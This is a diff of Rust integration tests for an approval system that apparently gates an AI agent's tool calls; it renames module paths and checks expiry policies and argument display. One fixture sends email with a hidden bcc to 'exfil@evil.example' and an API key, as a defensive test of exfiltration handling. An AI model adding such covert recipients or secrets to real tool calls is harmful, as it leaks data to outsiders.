@@ -6,11 +6,11 @@
 
 mod common;
 
-use app::access::{Role, Scope};
-use app::approvals::payload::payload_sha256;
+use domain::access::{Role, Scope};
+use domain::approvals::payload::payload_sha256;
 use app::auth::password;
-use app::storage::testing::TestDb;
-use app::storage::{audit, users};
+use store::testing::TestDb;
+use store::{audit, users};
 use common::{token, Live, Person, PASSWORD};
 use reqwest::StatusCode;
 use serde_json::{json, Value};
@@ -307,10 +307,10 @@ impl Drop for Instance {
 async fn the_agent_can_shorten_the_policys_expiry_but_never_lengthen_it() {
     for t in TestDb::each_backend().await {
         let s = live(&t).await;
-        let mut policy = app::ingest::policy::ToolPolicy::class("send_*", app::canonical::SideEffect::Irreversible);
+        let mut policy = domain::policy::ToolPolicy::class("send_*", domain::canonical::SideEffect::Irreversible);
         policy.requires_approval = true;
         policy.expiry_seconds = Some(900);
-        app::storage::policies::upsert(&t.db, &policy).await.unwrap();
+        store::policies::upsert(&t.db, &policy).await.unwrap();
         let seconds_open = |v: &Value| {
             let at = |k: &str| chrono::DateTime::parse_from_rfc3339(v[k].as_str().unwrap()).unwrap();
             (at("expires_at") - at("created_at")).num_seconds()
@@ -380,7 +380,7 @@ async fn the_request_page_puts_the_arguments_first_and_calls_out_what_the_descri
         let sent = json!({"to": "ana@example.com", "subject": "Invoice", "body": "Attached.",
                           "bcc": "exfil@evil.example", "force": true, "api_key": "sk_live_4eC39HqLyjWDarjtT1zdp7dc"});
         assert_eq!(created["payload_sha256"], payload_sha256("send_email", &sent), "the hash binds what was sent");
-        let stored = app::storage::approvals::get(&t.db, id).await.unwrap().unwrap();
+        let stored = store::approvals::get(&t.db, id).await.unwrap().unwrap();
         assert!(!stored.arguments.contains("sk_live_"), "the key is not stored: {}", stored.arguments);
 
         let alice = s.person("alice").await;
